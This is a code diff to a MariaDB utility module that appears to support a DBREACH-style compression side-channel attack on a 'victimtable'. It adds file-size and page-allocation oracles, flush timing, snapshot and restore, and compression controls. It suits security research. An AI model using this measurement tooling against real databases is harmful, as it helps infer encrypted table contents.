@@ -1,10 +1,18 @@
 # utils/mariadb_utils.py
+import errno
 import os
+import shutil
 import time
 import random
 import string
 import pymysql  # PyMySQL로 통일
 
+from utils import attack_log, op_profile
+
+# 연산별 지연 계측(DBREACH_PROFILE=1일 때만 기록)
+_prof = op_profile.get_profiler()
+_log = attack_log.get_logger()
+
 # ----- 파일시스템 크기 측정 유틸 -----
 def _ibd_path(datadir, db, table):
     return f"{datadir}/{db}/{table}.ibd"
@@ -23,6 +31,183 @@ def get_ibd_sizes(datadir="/var/lib/mysql", db="flask_db", table="victimtable"):
 def get_ibd_allocated_bytes(datadir="/var/lib/mysql", db="flask_db", table="victimtable"):
     return get_ibd_sizes(datadir, db, table)[1]
 
+def get_ibd_signature(datadir="/var/lib/mysql", db="flask_db", table="victimtable"):
+    """
+    flush 완료 판정용 파일 시그니처: (st_blocks, st_mtime_ns)
+    페이지 write가 반영되면 둘 중 하나는 바뀌고, 끝나면 더 이상 안 바뀐다.
+    """
+    st = os.stat(_ibd_path(datadir, db, table))
+    return st.st_blocks, st.st_mtime_ns
+
+# ----- 페이지별 할당 맵(SEEK_DATA/SEEK_HOLE) -----
+INNODB_PAGE_SIZE = 16384
+FS_BLOCK_SIZE = 4096
+
+def get_ibd_page_alloc_map(datadir="/var/lib/mysql", db="flask_db", table="victimtable",
+                           page_size=INNODB_PAGE_SIZE, block_size=FS_BLOCK_SIZE):
+    """
+    .ibd를 lseek(SEEK_DATA/SEEK_HOLE)로 훑어서 페이지별 할당 블록 수를 반환.
+    결과[i] = i번 16KB 페이지에서 실제로 할당된 4KB 블록 수(0..4).
+    읽기 전용, 파일 내용은 읽지 않음. SEEK_DATA 미지원 FS에서는 OSError.
+    """
+    p = _ibd_path(datadir, db, table)
+    fd = os.open(p, os.O_RDONLY)
+    try:
+        size = os.fstat(fd).st_size
+        per_page = page_size // block_size
+        blocks = [0] * (-(-size // page_size))
+        off = 0
+        while off < size:
+            try:
+                start = os.lseek(fd, off, os.SEEK_DATA)
+            except OSError as e:
+                if e.errno == errno.ENXIO:  # 뒤쪽은 전부 hole
+                    break
+                raise
+            end = os.lseek(fd, start, os.SEEK_HOLE)
+            for blk in range(start // block_size, -(-end // block_size)):
+                page = blk // per_page
+                if page < len(blocks):
+                    blocks[page] += 1
+            off = end
+        return blocks
+    finally:
+        os.close(fd)
+
+def _can_chown(uid, gid) -> bool:
+    """이 프로세스가 파일을 uid:gid로 chown할 수 있는지(root이거나, 자기 uid + 속한 그룹)."""
+    euid = os.geteuid()
+    if euid == 0:
+        return True
+    return uid == euid and (gid == os.getegid() or gid in os.getgroups())
+
+def diff_page_alloc_maps(old, new):
+    """두 맵에서 할당이 바뀐 페이지 -> (old 블록, new 블록). 길이가 다르면 없는 쪽은 0."""
+    n = max(len(old), len(new))
+    old = list(old) + [0] * (n - len(old))
+    new = list(new) + [0] * (n - len(new))
+    return {i: (a, b) for i, (a, b) in enumerate(zip(old, new)) if a != b}
+
+# ----- flush 완료 감지 설정 -----
+# sleep: 기존 방식(FLUSH 후 고정 대기, 기본) / adaptive: 신호 폴링 후 안정되면 즉시 반환
+# adaptive는 실측으로 검증되기 전까지 opt-in. 상한은 sleep과 같은 0.2s라 최악이어도 기존보다 느리지 않음
+FLUSH_MODE = os.getenv("DBREACH_FLUSH_MODE", "sleep")
+FLUSH_TIMEOUT_S = float(os.getenv("DBREACH_FLUSH_TIMEOUT_S", "0.2"))
+FLUSH_STABLE_POLLS = int(os.getenv("DBREACH_FLUSH_STABLE_POLLS", "2"))
+FLUSH_POLL_MIN_S = 0.002   # 첫 폴링 간격
+FLUSH_POLL_MAX_S = 0.05    # 백오프 상한
+
+_FLUSH_STATUS_SQL = "SHOW GLOBAL STATUS WHERE Variable_name = 'Innodb_pages_written'"
+
+# ----- 크기 오라클(get_table_size_alloc 백엔드) -----
+# stat : 매번 os.stat(경로) — datadir 마운트 필요(기본, 논문 방식)
+# fstat: 테이블별 fd를 열어두고 os.fstat — 경로 조회 생략, DROP/CREATE 시 fd 다시 염
+# sql  : information_schema.INNODB_SYS_TABLESPACES.ALLOCATED_SIZE — 마운트 없이 SQL만으로
+SIZE_ORACLE = os.getenv("DBREACH_SIZE_ORACLE", "stat")
+
+# 1이면 insert/update/delete를 다음 flush_and_wait까지 모았다가 multi-row 문으로 한 번에 실행
+COALESCE_WRITES = os.getenv("DBREACH_COALESCE_WRITES", "0") != "0"
+
+class StatSizeOracle:
+    name = "stat"
+
+    def __init__(self, ctrl):
+        self.ctrl = ctrl
+
+    def allocated(self, tablename):
+        return get_ibd_allocated_bytes(self.ctrl.datadir, self.ctrl.db_name, tablename)
+
+    def forget(self, tablename):
+        pass
+
+    def close(self):
+        pass
+
+class FstatSizeOracle:
+    name = "fstat"
+
+    def __init__(self, ctrl):
+        self.ctrl = ctrl
+        self._fds = {}
+
+    def allocated(self, tablename):
+        fd = self._fds.get(tablename)
+        if fd is None:
+            fd = os.open(_ibd_path(self.ctrl.datadir, self.ctrl.db_name, tablename), os.O_RDONLY)
+            self._fds[tablename] = fd
+        return os.fstat(fd).st_blocks * 512
+
+    def forget(self, tablename):
+        # DROP 후엔 옛 inode를 보고 있게 되므로 닫고 다음 조회 때 다시 연다
+        fd = self._fds.pop(tablename, None)
+        if fd is not None:
+            os.close(fd)
+
+    def close(self):
+        for t in list(self._fds):
+            self.forget(t)
+
+class SqlSizeOracle:
+    name = "sql"
+    SQL = ("SELECT ALLOCATED_SIZE FROM information_schema.INNODB_SYS_TABLESPACES "
+           "WHERE NAME = %s")
+
+    def __init__(self, ctrl):
+        self.ctrl = ctrl
+
+    def allocated(self, tablename):
+        self.ctrl.cur.execute(self.SQL, (f"{self.ctrl.db_name}/{tablename}",))
+        r = self.ctrl.cur.fetchone()
+        if r is None:
+            raise FileNotFoundError(f"tablespace {self.ctrl.db_name}/{tablename} not found")
+        return int(r[0])
+
+    def forget(self, tablename):
+        pass
+
+    def close(self):
+        pass
+
+SIZE_ORACLES = {o.name: o for o in (StatSizeOracle, FstatSizeOracle, SqlSizeOracle)}
+
+def make_size_oracle(name, ctrl):
+    try:
+        return SIZE_ORACLES[name](ctrl)
+    except KeyError:
+        raise ValueError(f"알 수 없는 size oracle: {name} (가능: {', '.join(SIZE_ORACLES)})") from None
+
+# ----- 테이블스페이스 스냅숏 -----
+SNAPSHOT_DIR = os.getenv("DBREACH_SNAPSHOT_DIR", "/tmp/dbreach_snapshots")
+
+def copy_sparse(src, dst):
+    """
+    SEEK_DATA/SEEK_HOLE로 데이터 구간만 복사(hole은 hole로 유지).
+    일반 복사는 punch hole을 메워 버려 st_blocks 신호가 달라진다.
+    """
+    with open(src, "rb") as fi, open(dst, "wb") as fo:
+        size = os.fstat(fi.fileno()).st_size
+        off = 0
+        while off < size:
+            try:
+                start = os.lseek(fi.fileno(), off, os.SEEK_DATA)
+            except OSError as e:
+                if e.errno == errno.ENXIO:
+                    break
+                raise
+            end = os.lseek(fi.fileno(), start, os.SEEK_HOLE)
+            fi.seek(start)
+            fo.seek(start)
+            remaining = end - start
+            while remaining > 0:
+                chunk = fi.read(min(remaining, 1 << 20))
+                if not chunk:
+                    break
+                fo.write(chunk)
+                remaining -= len(chunk)
+            off = end
+        fo.truncate(size)
+    shutil.copystat(src, dst)
+
 # ----- DB 컨트롤러 -----
 class MariaDBController:
     def __init__(
@@ -33,6 +218,10 @@ class MariaDBController:
         user: str = None,
         password: str = None,
         datadir: str = "/var/lib/mysql",
+        flush_mode: str = None,
+        flush_timeout: float = None,
+        size_oracle: str = None,
+        coalesce_writes: bool = None,
     ):
         # 환경변수 우선(컨테이너에서 쉽게 쓰려고)
         self.db_name = db
@@ -41,6 +230,14 @@ class MariaDBController:
         self.user = user or os.environ.get("DB_USER", "root")
         self.password = password or os.environ.get("DB_PASSWORD", "your_root_password")
         self.datadir = datadir
+        self.flush_mode = flush_mode or FLUSH_MODE
+        self.flush_timeout = FLUSH_TIMEOUT_S if flush_timeout is None else float(flush_timeout)
+
+        # flush_and_wait 지연 히스토그램(ns, 버킷 수만큼만 메모리) → flush_report()로 요약
+        self.flush_hist = op_profile.Histogram()
+        self.flush_timeouts = 0
+        # SHOW GLOBAL STATUS 권한이 없으면 파일 신호만 사용
+        self._status_ok = True
 
         # 접속
         self.conn = pymysql.connect(
@@ -50,12 +247,36 @@ class MariaDBController:
             autocommit=True,
         )
         self.cur = self.conn.cursor()
+        if _prof.enabled:
+            self.cur = op_profile.TimedCursor(self.cur, _prof)
+
+        self.size_oracle = make_size_oracle(size_oracle or SIZE_ORACLE, self)
+
+        # 쓰기 합치기: [(kind, table, rows)] — 같은 종류/테이블 연속 쓰기는 한 그룹
+        self.coalesce_writes = COALESCE_WRITES if coalesce_writes is None else bool(coalesce_writes)
+        self._pending = []
+        self.write_stmts = 0   # 실제로 보낸 쓰기 SQL 문 수(BEGIN/COMMIT 포함)
+
+        # 테이블스페이스 스냅숏: {테이블: 복사본 디렉터리}
+        self.snapshot_dir = SNAPSHOT_DIR
+        self._snapshots = {}
 
     # (논문은 파일크기 신호가 핵심이라 DDL/CRUD 최소화만 둠)
     def drop_table(self, tablename):
+        self.flush_writes()
+        self.size_oracle.forget(tablename)
+        self._snapshots.pop(tablename, None)
         self.cur.execute(f"DROP TABLE IF EXISTS `{tablename}`")
 
+    def truncate_table(self, tablename):
+        """행만 비우고 테이블은 유지(TRUNCATE는 테이블스페이스를 새로 만듦)."""
+        self.flush_writes()
+        self.size_oracle.forget(tablename)
+        self._snapshots.pop(tablename, None)
+        self.cur.execute(f"TRUNCATE TABLE `{tablename}`")
+
     def create_basic_table(self, tablename, varchar_len=500, compressed=True, encrypted=True):
+        self.flush_writes()
         comp = "1" if compressed else "0"
         enc  = "YES" if encrypted else "NO"
         sql = f"""
@@ -71,16 +292,175 @@ class MariaDBController:
         self.cur.execute(sql)
 
     def insert_row(self, tablename: str, idx: int, data: str):
+        if self.coalesce_writes:
+            return self._queue_write("insert", tablename, idx, data)
+        self.write_stmts += 1
         self.cur.execute(f"INSERT INTO `{tablename}` (id, data) VALUES (%s, %s)", (idx, data))
 
     def update_row(self, tablename: str, idx: int, data: str):
+        if self.coalesce_writes:
+            return self._queue_write("update", tablename, idx, data)
+        self.write_stmts += 1
         self.cur.execute(f"UPDATE `{tablename}` SET data=%s WHERE id=%s", (data, idx))
 
     def delete_row(self, tablename: str, idx: int):
+        if self.coalesce_writes:
+            return self._queue_write("delete", tablename, idx, None)
+        self.write_stmts += 1
         self.cur.execute(f"DELETE FROM `{tablename}` WHERE id=%s", (idx,))
 
+    # ----- 쓰기 합치기 -----
+    def _queue_write(self, kind, tablename, idx, data):
+        if self._pending and self._pending[-1][0] == kind and self._pending[-1][1] == tablename:
+            rows = self._pending[-1][2]
+        else:
+            # insert는 순서/중복 오류를 그대로 살리려고 리스트, update/delete는 같은 id면 마지막 값만
+            rows = [] if kind == "insert" else {}
+            self._pending.append((kind, tablename, rows))
+        if kind == "insert":
+            rows.append((idx, data))
+        else:
+            rows[idx] = data
+
+    def _write_group_sql(self, kind, tablename, rows):
+        if kind == "insert":
+            sql = f"INSERT INTO `{tablename}` (id, data) VALUES " + ",".join(["(%s, %s)"] * len(rows))
+            return sql, [v for row in rows for v in row]
+        ids = list(rows)
+        if kind == "update":
+            sql = (f"UPDATE `{tablename}` SET data = CASE id "
+                   + " ".join(["WHEN %s THEN %s"] * len(ids))
+                   + " END WHERE id IN (" + ",".join(["%s"] * len(ids)) + ")")
+            return sql, [v for i in ids for v in (i, rows[i])] + ids
+        lo, hi = min(ids), max(ids)
+        if hi - lo + 1 == len(ids):
+            return f"DELETE FROM `{tablename}` WHERE id BETWEEN %s AND %s", [lo, hi]
+        return f"DELETE FROM `{tablename}` WHERE id IN (" + ",".join(["%s"] * len(ids)) + ")", ids
+
+    def flush_writes(self):
+        """모아둔 쓰기를 그룹당 한 문장으로, 여러 그룹이면 한 트랜잭션으로 실행."""
+        if not self._pending:
+            return
+        pending, self._pending = self._pending, []
+        stmts = [self._write_group_sql(kind, t, rows) for kind, t, rows in pending]
+        if len(stmts) == 1:
+            self.write_stmts += 1
+            self.cur.execute(*stmts[0])
+            return
+        self.conn.begin()
+        try:
+            for sql, params in stmts:
+                self.cur.execute(sql, params)
+            self.conn.commit()
+        except Exception:
+            self.conn.rollback()
+            raise
+        finally:
+            self.write_stmts += len(stmts) + 2
+
+    # 배치 쓰기: 한 트랜잭션/한 왕복(executemany는 multi-row INSERT로 합쳐짐)
+    def insert_rows(self, tablename: str, rows):
+        """rows: [(id, data), ...]"""
+        self.flush_writes()
+        self.conn.begin()
+        try:
+            self.cur.executemany(f"INSERT INTO `{tablename}` (id, data) VALUES (%s, %s)", list(rows))
+            self.conn.commit()
+            self.write_stmts += 3
+        except Exception:
+            self.conn.rollback()
+            raise
+
+    def delete_rows_range(self, tablename: str, lo: int, hi: int):
+        """id가 lo..hi(양끝 포함)인 행 삭제"""
+        self.flush_writes()
+        self.write_stmts += 1
+        self.cur.execute(f"DELETE FROM `{tablename}` WHERE id BETWEEN %s AND %s", (lo, hi))
+
+    # ----- 압축 설정(서버 재시작 없이 런타임 변경) -----
+    def compression_variables(self) -> dict:
+        """SHOW VARIABLES로 현재 innodb_compression_* 값 조회."""
+        self.flush_writes()
+        self.cur.execute("SHOW VARIABLES LIKE 'innodb_compression_%'")
+        return {name: val for name, val in self.cur.fetchall()}
+
+    def set_compression(self, algorithm: str, level: int = None) -> dict:
+        """
+        SET GLOBAL innodb_compression_algorithm/level 후 SHOW VARIABLES로 확인.
+        이미 있는 페이지는 다시 쓰일 때까지 예전 알고리즘이므로 호출 후 테이블을 새로 만들 것.
+        서버 빌드에 없는 알고리즘(provider 플러그인 미로드 등)이거나 값이 안 바뀌면 RuntimeError.
+        """
+        self.flush_writes()
+        try:
+            self.cur.execute("SET GLOBAL innodb_compression_algorithm = %s", (algorithm,))
+            if level is not None:
+                self.cur.execute("SET GLOBAL innodb_compression_level = %s", (int(level),))
+        except pymysql.MySQLError as e:
+            raise RuntimeError(f"압축 설정 실패({algorithm}, level={level}): {e}") from e
+        active = self.compression_variables()
+        if active.get("innodb_compression_algorithm", "").lower() != algorithm.lower() or \
+                (level is not None and str(active.get("innodb_compression_level")) != str(int(level))):
+            raise RuntimeError(f"압축 설정이 반영되지 않음: 요청 {algorithm}/{level}, 현재 {active}")
+        return active
+
+    # ----- 스냅숏/복원(경계 세팅 상태를 통째로 되돌리기) -----
+    def snapshot_table(self, tablename):
+        """
+        FLUSH TABLES t FOR EXPORT로 잠근 상태에서 .ibd/.cfg를 hole 보존 복사.
+        datadir가 로컬에 마운트되어 있어야 함(없으면 OSError).
+        """
+        self.flush_writes()
+        src = f"{self.datadir}/{self.db_name}/{tablename}"
+        dst = os.path.join(self.snapshot_dir, self.db_name, tablename)
+        os.makedirs(dst, exist_ok=True)
+        self.cur.execute(f"FLUSH TABLES `{tablename}` FOR EXPORT")
+        try:
+            for ext in (".ibd", ".cfg"):
+                target = os.path.join(dst, tablename + ext)
+                if os.path.exists(src + ext):
+                    copy_sparse(src + ext, target)
+                elif os.path.exists(target):
+                    os.remove(target)
+        finally:
+            self.cur.execute("UNLOCK TABLES")
+        self._snapshots[tablename] = dst
+
+    def has_snapshot(self, tablename) -> bool:
+        return tablename in self._snapshots
+
+    def restore_table(self, tablename) -> bool:
+        """
+        DISCARD TABLESPACE → 스냅숏 파일 복사 → IMPORT TABLESPACE.
+        복사한 파일을 mysqld 소유로 chown할 수 없으면(root 아님 등) 테이블을 건드리지 않고 False
+        → 호출자는 새로 세팅한다(남의 소유 .ibd를 IMPORT하면 서버가 못 열어 테이블이 깨짐).
+        """
+        self.flush_writes()
+        src = self._snapshots[tablename]
+        dst = f"{self.datadir}/{self.db_name}/{tablename}"
+        owner = os.stat(f"{self.datadir}/{self.db_name}")
+        if not _can_chown(owner.st_uid, owner.st_gid):
+            _log.warn("SNAPSHOT", "cannot chown restored files to %d:%d (euid=%d); not restoring %s",
+                      owner.st_uid, owner.st_gid, os.geteuid(), tablename)
+            return False
+        self.size_oracle.forget(tablename)
+        self.cur.execute(f"ALTER TABLE `{tablename}` DISCARD TABLESPACE")
+        for ext in (".ibd", ".cfg"):
+            path = os.path.join(src, tablename + ext)
+            if not os.path.exists(path):
+                continue
+            copy_sparse(path, dst + ext)
+            os.chown(dst + ext, owner.st_uid, owner.st_gid)
+        self.cur.execute(f"ALTER TABLE `{tablename}` IMPORT TABLESPACE")
+        return True
+
+    def drop_snapshot(self, tablename):
+        path = self._snapshots.pop(tablename, None)
+        if path:
+            shutil.rmtree(path, ignore_errors=True)
+
     # 논리 크기(참고용): 노이즈가 커서 지표로 쓰지 말 것
     def get_table_size_logical(self, tablename):
+        self.flush_writes()
         self.cur.execute("""
             SELECT DATA_LENGTH + INDEX_LENGTH
             FROM information_schema.TABLES
@@ -89,15 +469,128 @@ class MariaDBController:
         r = self.cur.fetchone()
         return r[0] if r else -1
 
-    # 실제 신호(핵심): .ibd 할당 바이트
+    # 실제 신호(핵심): .ibd 할당 바이트(백엔드는 size_oracle)
     def get_table_size_alloc(self, tablename):
-        return get_ibd_allocated_bytes(self.datadir, self.db_name, tablename)
+        self.flush_writes()
+        if self.size_oracle.name == "sql":  # 커서에서 sql로 기록됨
+            return self.size_oracle.allocated(tablename)
+        t0 = _prof.now()
+        size = self.size_oracle.allocated(tablename)
+        _prof.record("stat", t0)
+        return size
+
+    # 페이지별 할당 맵: 한 번의 flush로 여러 페이지의 경계를 동시에 관측
+    def get_page_alloc_map(self, tablename):
+        t0 = _prof.now()
+        alloc_map = get_ibd_page_alloc_map(self.datadir, self.db_name, tablename)
+        _prof.record("stat", t0)
+        return alloc_map
 
     # 플러시/대기: 파일시스템 반영 안정화
-    def flush_and_wait(self, tablename, sleep_sec=0.2):
+    def flush_and_wait(self, tablename, sleep_sec=0.2, tables=None):
+        """
+        FLUSH TABLES 후 반영 대기. tables: adaptive 모드에서 함께 기다릴 테이블 목록
+        (FLUSH 한 번을 여러 테이블이 공유하는 multi_table_engine용, 기본은 tablename만).
+        """
+        self.flush_writes()
+        t_wait = _prof.now()
+        if self.flush_mode == "sleep":
+            self.cur.execute("FLUSH TABLES")
+            # 커널 버퍼 반영 여유
+            self._sleep(sleep_sec)
+        else:
+            self._flush_adaptive(tables or [tablename])
+        self.flush_hist.add(_prof.now() - t_wait)
+        _prof.record("flush_wait", t_wait)
+
+    @staticmethod
+    def _sleep(seconds):
+        t0 = _prof.now()
+        time.sleep(seconds)
+        _prof.record("sleep", t0)
+
+    def _innodb_pages_written(self):
+        """누적 Innodb_pages_written. 조회 불가 시 None."""
+        if not self._status_ok:
+            return None
+        try:
+            self.cur.execute(_FLUSH_STATUS_SQL)
+            vals = {name: int(val) for name, val in self.cur.fetchall()}
+            return vals["Innodb_pages_written"]
+        except Exception:
+            self._status_ok = False
+            return None
+
+    def _flush_signals(self, tables):
+        """(테이블별 .ibd 시그니처(st_blocks, st_mtime_ns), 누적 Innodb_pages_written). 못 읽는 쪽은 None."""
+        written = self._innodb_pages_written()
+        t_stat = _prof.now()
+        file_sigs = []
+        for table in tables:
+            try:
+                file_sigs.append(get_ibd_signature(self.datadir, self.db_name, table))
+            except OSError:
+                file_sigs.append(None)  # datadir 미마운트(sql 오라클) → InnoDB 상태만으로 판정
+        _prof.record("stat", t_stat)
+        return tuple(file_sigs), written
+
+    @staticmethod
+    def _flush_moved(sig, before) -> bool:
+        """FLUSH 전 대비 쓰기가 시작됐는지: 읽히는 .ibd는 전부 바뀌어야 하고, 하나도 안 읽히면 pages_written으로."""
+        file_sigs, written = sig
+        pairs = [(a, b) for a, b in zip(file_sigs, before[0]) if a is not None and b is not None]
+        if pairs:
+            return all(a != b for a, b in pairs)
+        return written is not None and before[1] is not None and written != before[1]
+
+    def _flush_adaptive(self, tables):
+        """
+        FLUSH TABLES 전후로 tables 각각의 .ibd 시그니처(st_blocks, st_mtime_ns)와 누적 Innodb_pages_written을
+        지수 백오프로 폴링. FLUSH 전 값에서 움직인 뒤에만(_flush_moved) 안정 횟수를 세고,
+        FLUSH_STABLE_POLLS번 연속 그대로면 완료로 보고 반환.
+        (쓰기가 시작되기 전엔 둘 다 당연히 그대로라, 움직임 없이 안정으로 치면 stale 크기를 읽는다)
+        전역 dirty 페이지 수는 보지 않음(다른 테이블/백그라운드 쓰기 때문에 0이 안 될 수 있음).
+        끝까지 안 움직이거나 안정되지 않으면 flush_timeout까지 기다린 뒤 반환(flush_timeouts 증가).
+        """
+        before = self._flush_signals(tables)
         self.cur.execute("FLUSH TABLES")
-        # 커널 버퍼 반영 여유
-        time.sleep(sleep_sec)
+        deadline = time.perf_counter() + self.flush_timeout
+        delay = FLUSH_POLL_MIN_S
+        moved = False
+        prev = before
+        stable = 0
+        while True:
+            sig = self._flush_signals(tables)
+            if not moved:
+                moved = self._flush_moved(sig, before)
+            elif sig == prev:
+                stable += 1
+                if stable >= FLUSH_STABLE_POLLS:
+                    return
+            else:
+                stable = 0
+            prev = sig
+            if time.perf_counter() >= deadline:
+                self.flush_timeouts += 1
+                return
+            self._sleep(delay)
+            delay = min(delay * 2, FLUSH_POLL_MAX_S)
+
+    def flush_report(self):
+        """flush_and_wait 지연 요약(ms). 고정 0.2s 대비 얼마나 줄었는지 확인용. 분위수는 버킷 중앙값(오차 ≤ 6.25%)."""
+        h = self.flush_hist
+        if not h.n:
+            return {"mode": self.flush_mode, "count": 0}
+        return {
+            "mode": self.flush_mode,
+            "count": h.n,
+            "total_s": h.total / 1e9,
+            "mean_ms": h.total / h.n / 1e6,
+            "p50_ms": h.percentile(0.5) / 1e6,
+            "p95_ms": h.percentile(0.95) / 1e6,
+            "max_ms": h.max / 1e6,
+            "timeouts": self.flush_timeouts,
+        }
 
 # ----- 문자열 생성 -----
 def get_filler_str(n):